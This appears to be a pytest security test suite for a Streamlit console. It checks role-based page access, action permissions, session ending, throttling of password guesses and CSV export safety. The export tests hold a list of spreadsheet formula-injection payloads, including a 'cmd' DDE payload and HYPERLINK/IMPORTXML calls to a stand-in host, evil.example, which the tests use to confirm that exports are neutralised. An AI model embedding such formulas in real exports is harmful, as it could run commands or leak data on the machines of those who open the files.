"""Who reaches what: pages, actions, sessions, guesses, exports. Pages and actions are found, not listed."""

from __future__ import annotations

import csv
import inspect
import io
import re
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from importlib import import_module
from pathlib import Path
from pkgutil import walk_packages
from uuid import uuid4

import msgspec
import pytest
from streamlit.testing.v1 import AppTest

from console import actions
from console.actions.admin import users as people
from console.actions.runs.files.exports import export_csv
from console.config import Settings
from console.data.store.store import Store
from console.data.users import passwords
from console.data.users.keys import Keyring
from console.data.users.users import Users
from console.errors import Forbidden, InvalidInput
from console.records import Role, RunFilter, User, utcnow
from console.services import Services, build_services
from console.ui.frame import session
from tests.support.console_app import CONSOLE, PASSWORD, app, failed, new_case, new_judge, new_user, scored, texts
from tests.support.fakes import FakeClock

PAGES = sorted(path.stem for path in (CONSOLE / "pages").glob("*.py") if path.stem != "__init__")
ADMIN_PAGES = ["operations", "users"]
MARK = "Zanzibar"
"""A word that stands in every record of the store, and in no page."""


# --- S1: every page, for everybody, by the router and alone ----------------------------------------------------


@pytest.fixture(scope="module")
def environment(engine_endpoint: str) -> dict[str, str]:
    prefix = f"t{uuid4().hex[:12]}-"
    return {"DYNAMODB_ENDPOINT": engine_endpoint, "ENGINE_KIND": "dynoxide", "TABLE_PREFIX": prefix}


@pytest.fixture(scope="module")
def users(environment: dict[str, str]) -> Iterator[dict[str, User]]:
    """A store full of the mark, a user of each role, and `newcomer`: an admin with a first password."""
    with build_services(Settings.load(environment)) as services:
        case = new_case(services, f"{MARK} case")
        judge = new_judge(services, case, f"{MARK} judge", f"{MARK} model")
        scored(services, judge, case, 4.0, text=f"{MARK} text")
        failed(services, judge, case, f"{MARK} error")
        services.documents.create(f"{MARK} document", None, None, by="ana")
        services.catalog.create_metric(f"{MARK} metric", by="ana")
        new_user(services, MARK)
        yield {
            "viewer": new_user(services, "vera", Role.VIEWER),
            "evaluator": new_user(services, "eva", Role.EVALUATOR),
            "admin": new_user(services, "ada", Role.ADMIN),
            "newcomer": new_user(services, "nora", Role.ADMIN, must_change_password=True),
        }


@pytest.fixture(scope="module")
def served(environment: dict[str, str], users: dict[str, User]) -> Iterator[None]:
    """The services of the app: one set for every visit, as in a server."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in environment.items():
            patch.setenv(name, value)
        session.services.clear()
        session.services()
    yield
    session.services.clear()


@pytest.fixture
def console(environment: dict[str, str], served: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """The settings with which the app builds its services."""
    for name, value in environment.items():
        monkeypatch.setenv(name, value)


def by_router(page: str, user: User | None) -> AppTest:
    return app(user, run="1", runs="1,2", user=MARK.lower()).switch_page(f"console/pages/{page}.py").run()


def by_file(page: str, user: User | None) -> AppTest:
    """The file of the page alone, as somebody may start it who goes round the sign-in form."""
    alone = AppTest.from_file(CONSOLE / "pages" / f"{page}.py", default_timeout=30)
    signed_in = app(user, run="1", runs="1,2", user=MARK.lower())
    alone.query_params.update(signed_in.query_params)
    if user:
        alone.session_state["auth.session"] = signed_in.session_state["auth.session"]
    return alone.run()


def sent(test: AppTest) -> str:
    """Everything that the browser is given, tables and charts included."""
    return "\n".join(str(node.proto) for root in (test.main, test.sidebar) for node in root if node.type != "root")


@pytest.mark.parametrize("page", PAGES)
def test_a_signed_out_visitor_gets_the_form_and_no_data(page: str, console: None, users: dict[str, User]) -> None:
    test = by_router(page, None)
    assert [field.label for field in test.text_input] == ["User name", "Password"]
    assert MARK.lower() not in sent(test).lower()


@pytest.mark.parametrize("page", PAGES)
def test_the_file_of_a_page_alone_refuses_visitors(page: str, console: None, users: dict[str, User]) -> None:
    test = by_file(page, None)
    assert "sign in to see it" in texts(test)
    assert not test.text_input
    assert MARK.lower() not in sent(test).lower()


@pytest.mark.parametrize("page", PAGES)
def test_who_has_a_first_password_can_only_choose_another(page: str, console: None, users: dict[str, User]) -> None:
    test = by_router(page, users["newcomer"])
    assert [field.label for field in test.text_input] == ["New password", "New password again"]
    assert MARK.lower() not in sent(test).lower()


@pytest.mark.parametrize("page", PAGES)
def test_the_file_of_a_page_alone_refuses_first_passwords(page: str, console: None, users: dict[str, User]) -> None:
    test = by_file(page, users["newcomer"])
    assert "Choose a password of your own first" in texts(test)
    assert MARK.lower() not in sent(test).lower()


@pytest.mark.parametrize("role", ["viewer", "evaluator"])
@pytest.mark.parametrize("page", ADMIN_PAGES)
def test_who_is_no_admin_is_refused(page: str, role: str, console: None, users: dict[str, User]) -> None:
    test = by_router(page, users[role])
    assert f"This page is for the role admin: yours is {role}" in texts(test)
    assert MARK.lower() not in sent(test).lower()


@pytest.mark.parametrize("role", ["viewer", "evaluator"])
@pytest.mark.parametrize("page", ADMIN_PAGES)
def test_the_file_of_an_admin_page_alone_shows_nothing_of_it(
    page: str, role: str, console: None, users: dict[str, User]
) -> None:
    assert "nora" not in sent(by_file(page, users[role])).lower()
    assert "nora" in sent(by_router("users", users["admin"])).lower()


LET_IN = [(page, "admin") for page in PAGES] + [
    (page, role) for page in PAGES if page not in ADMIN_PAGES for role in ("viewer", "evaluator")
]


@pytest.mark.parametrize(("page", "role"), LET_IN)
def test_everybody_else_is_let_in(page: str, role: str, console: None, users: dict[str, User]) -> None:
    test = by_router(page, users[role])
    assert not test.exception
    assert "Not allowed" not in texts(test)
    assert test.title


# --- S1: every action that writes ------------------------------------------------------------------------------


def _actions() -> dict[str, Callable[..., object]]:
    """The functions of console.actions that act for somebody, by name."""
    modules = [import_module(module.name) for module in walk_packages(actions.__path__, "console.actions.")]
    found = {
        f"{module.__name__.removeprefix('console.actions.')}.{name}": value
        for module in modules
        for name, value in vars(module).items()
        if inspect.isfunction(value) and value.__module__ == module.__name__ and not name.startswith("_")
    }
    del found["permissions.permit"]
    return {name: value for name, value in found.items() if "actor" in inspect.signature(value).parameters}


ACTIONS = _actions()


def needed_role(action: Callable[..., object]) -> Role:
    """The role in the call of `permit` with which the action begins; an action without one is a failure."""
    found = re.search(r"\bpermit\(actor, Role\.([A-Z]+)", inspect.getsource(action))
    assert found, f"{action.__name__} does not look at the role of its actor"
    return Role[found[1]]


class Untouched:
    """In place of the services: to look is allowed, to call is not."""

    def __getattr__(self, name: str) -> Untouched:
        return self

    def __call__(self, *args: object, **fields: object) -> None:
        raise AssertionError("the services were used before the role was known")


def act(action: Callable[..., object], actor: User) -> None:
    """Call the action with an actor and nothing to work with."""
    wanted = inspect.signature(action).parameters.values()
    needed = [one.name for one in wanted if one.default is one.empty]
    action(**dict.fromkeys(needed) | {"actor": actor, "services": Untouched()})


def somebody(role: Role, *, must_change_password: bool = False) -> User:
    now = utcnow()
    return User(
        username="ana",
        name="Ana",
        role=role,
        password_hash="",
        created_on=now,
        sessions_valid_from=now,
        must_change_password=must_change_password,
    )


TOO_LOW = [(name, role) for name in ACTIONS for role in Role if not role.includes(needed_role(ACTIONS[name]))]


def test_the_actions_are_found() -> None:
    assert set(ACTIONS) >= {"labels.labels.save_label", "admin.users.add_user", "configuration.configuration.edit_case"}


def test_every_action_is_a_span_of_its_own_when_traces_are_on() -> None:
    assert [name for name, action in ACTIONS.items() if not hasattr(action, "__wrapped__")] == []


@pytest.mark.parametrize(("name", "role"), TOO_LOW)
def test_an_action_refuses_a_lower_role_before_anything_else(name: str, role: Role) -> None:
    with pytest.raises(Forbidden, match=f"ana is {role}"):
        act(ACTIONS[name], somebody(role))


@pytest.mark.parametrize("name", sorted(set(ACTIONS) - {"admin.users.change_own_password"}))
def test_an_action_refuses_who_has_a_first_password(name: str) -> None:
    with pytest.raises(Forbidden, match="Choose a password of your own"):
        act(ACTIONS[name], somebody(Role.ADMIN, must_change_password=True))


REPOSITORIES = (
    "store|catalog|cases|judges|thresholds|documents|runs|rollups|labels|batches|batch_runs|sets|experiments|users|"
    "collections|vectors"
)
WRITING = (
    "create|add|add_hashed|update|change|describe|freeze|delete|remove|save|set_[a-z]+|revoke|activate|deactivate|complete|fail|start|claim|"
    "extend|release|finish|reopen|import_finished|batch_put|batch_delete|write|transact|"
    "put_document|delete_document|import_chunks|recount"
)
SCREENS = sorted(
    {*(CONSOLE / "pages").glob("*.py"), *(CONSOLE / "ui").rglob("*.py")} - {CONSOLE / "ui/sign_in/auth.py"}
)
"""Signing out ends one's own sessions, which nobody has to be permitted."""


@pytest.mark.parametrize("path", SCREENS, ids=lambda path: f"{path.parent.stem}/{path.stem}")
def test_pages_write_only_through_actions(path: Path) -> None:
    assert re.findall(rf"\.({REPOSITORIES})\.({WRITING})\(", path.read_text("utf-8")) == []


# --- S2: what ends a session -----------------------------------------------------------------------------------


def is_the_form(test: AppTest) -> bool:
    return [field.label for field in test.text_input] == ["User name", "Password"]


def _log_out(services: Services) -> None:
    services.users.revoke("ana")


def _change_password(services: Services) -> None:
    people.change_own_password(services, services.users.get("ana"), PASSWORD, "another horse", "another horse")


def _reset_password(services: Services) -> None:
    people.reset_password(services, somebody(Role.ADMIN), "ana")


def _delete(services: Services) -> None:
    people.delete_user(services, somebody(Role.ADMIN), "ana")


@pytest.mark.parametrize("ending", [_log_out, _change_password, _reset_password, _delete])
def test_the_next_click_of_an_ended_session_shows_the_form(
    ending: Callable[[Services], None], console_services: Services
) -> None:
    new_user(console_services, "root", Role.ADMIN)
    test = app(new_user(console_services, "ana", Role.EVALUATOR)).run()
    assert not is_the_form(test)
    ending(console_services)
    assert is_the_form(test.run())


def test_the_next_click_after_a_demotion_is_refused(console_services: Services) -> None:
    new_user(console_services, "root", Role.ADMIN)
    user = new_user(console_services, "ana", Role.ADMIN)
    test = app(user).switch_page("console/pages/users.py").run()
    assert test.title[0].value == "Users"
    people.change_role(console_services, somebody(Role.ADMIN), "ana", Role.VIEWER)
    assert "This page is for the role admin: yours is viewer" in texts(test.run())


def test_a_password_of_ones_own_needs_the_present_one(console_services: Services) -> None:
    user = new_user(console_services)
    with pytest.raises(InvalidInput, match="present password is not right"):
        people.change_own_password(console_services, user, "wrong guess", "another horse", "another horse")
    with pytest.raises(InvalidInput, match="present password is not right"):
        people.change_own_password(console_services, user, None, "another horse", "another horse")
    assert console_services.users.verify("ana", PASSWORD) is not None


def test_a_new_password_is_another_one_typed_twice(console_services: Services) -> None:
    user = new_user(console_services)
    with pytest.raises(InvalidInput, match="not the same"):
        people.change_own_password(console_services, user, PASSWORD, "another horse", "another house")
    with pytest.raises(InvalidInput, match="is the present one"):
        people.change_own_password(console_services, user, PASSWORD, PASSWORD, PASSWORD)


def test_who_changes_the_password_stays_signed_in(console_services: Services) -> None:
    test = app(new_user(console_services)).switch_page("console/pages/password.py").run()
    for name, value in (("old", PASSWORD), ("new", "another horse"), ("repeated", "another horse")):
        test.text_input(key=f"password.{name}").input(value)
    test.button(key="password.save").click().run()
    assert test.title[0].value == "Your password"
    assert console_services.users.verify("ana", "another horse") is not None


def test_the_last_admin_can_neither_go_nor_become_less(console_services: Services) -> None:
    ada = new_user(console_services, "ada", Role.ADMIN)
    with pytest.raises(InvalidInput, match="ada is the only admin"):
        people.delete_user(console_services, ada, "ada")
    with pytest.raises(InvalidInput, match="ada is the only admin"):
        people.change_role(console_services, ada, "ada", Role.EVALUATOR)


# --- S3: guessing ----------------------------------------------------------------------------------------------


@pytest.fixture
def compared(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The hash of every comparison of a password, as it happens."""
    seen: list[str] = []
    real = passwords.matches

    def spy(password: str, password_hash: str) -> bool:
        seen.append(password_hash)
        return real(password, password_hash)

    monkeypatch.setattr(passwords, "matches", spy)
    return seen


def test_of_200_parallel_guesses_five_are_evaluated_until_15_minutes_have_passed(
    embedded_store: Store, compared: list[str]
) -> None:
    clock = FakeClock()
    users = Users(embedded_store, Keyring.passing(), clock, rounds=4)
    ana = users.add("ana", "Ana", Role.ADMIN, PASSWORD, by="test")
    with ThreadPoolExecutor(50) as pool:
        answers = list(pool.map(lambda number: users.verify("ana", f"guess {number}"), range(200)))
    assert answers == [None] * 200
    assert compared.count(ana.password_hash) <= 5
    clock.advance(minutes=14, seconds=59)
    assert users.verify("ana", PASSWORD) is None
    clock.advance(seconds=1)
    assert users.verify("ana", PASSWORD) is not None


def test_a_wrong_password_an_unknown_user_and_a_resting_account_cost_the_same_work(
    embedded_store: Store, compared: list[str]
) -> None:
    users = Users(embedded_store, Keyring.passing(), rounds=4)
    users.add("ana", "Ana", Role.ADMIN, PASSWORD, by="test")
    users.verify("nobody", "a wrong guess")  # makes the hash that stands in for unknown users

    def work(username: str) -> tuple[int, int, list[str]]:
        """Reads, writes, and the cost factors of the hashes that were compared."""
        before = embedded_store.meter.read().requests
        compared.clear()
        assert users.verify(username, "a wrong guess") is None
        after = embedded_store.meter.read().requests
        reads, writes = (after[name] - before[name] for name in ("get_item", "update_item"))
        return reads, writes, [one.rpartition("$")[0] for one in compared]

    known = [work("ana") for _ in range(5)]
    assert known == [(1, 1, ["sha256$2b$04"])] * 5
    assert work("nobody") == (1, 1, ["sha256$2b$04"])
    assert work("ana") == (1, 1, ["sha256$2b$04"])  # five guesses were wrong: the account rests


# --- S5: exports -----------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x00=1+1", "\ufeff=1+1", "＝1+1", "＋1",
    "－1", "＠A", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+cmd|'/C calc'!A0", "-2+3+cmd|x!A0",
    '=IMPORTXML("http://evil.example","//a")', "@cmd", '";=1+1', "a\n=1+1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_an_export_is_a_formula(formula: str, console_services: Services) -> None:
    case = new_case(console_services, f"case {uuid4().hex}")
    judge = new_judge(console_services, case)
    judge = msgspec.structs.replace(judge, name=formula, case_name=formula)
    scored(console_services, judge, msgspec.structs.replace(case, name=formula), 4.0, text=formula)
    failed(console_services, judge, case, formula)
    content = export_csv(console_services, RunFilter()).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    assert [cell for cell in cells if runs_in_a_spreadsheet(cell)] == []


def runs_in_a_spreadsheet(cell: str) -> bool:
    """OWASP, "CSV Injection": what begins with one of these, after whatever a spreadsheet leaves out."""
    return bool(re.match(r"[\s\x00-\x1f\ufeff]*[=+\-@＝＋－＠]", cell)) and not re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)


def test_what_makes_csv_neutralises_it() -> None:
    sources = {path.relative_to(CONSOLE).as_posix(): path.read_text("utf-8") for path in CONSOLE.rglob("*.py")}
    makers = [name for name, source in sources.items() if re.search(r"csv\.writer|DictWriter|to_csv", source)]
    assert "tabular/writing.py" in makers
    assert [name for name in makers if "neutral(" not in sources[name]] == []
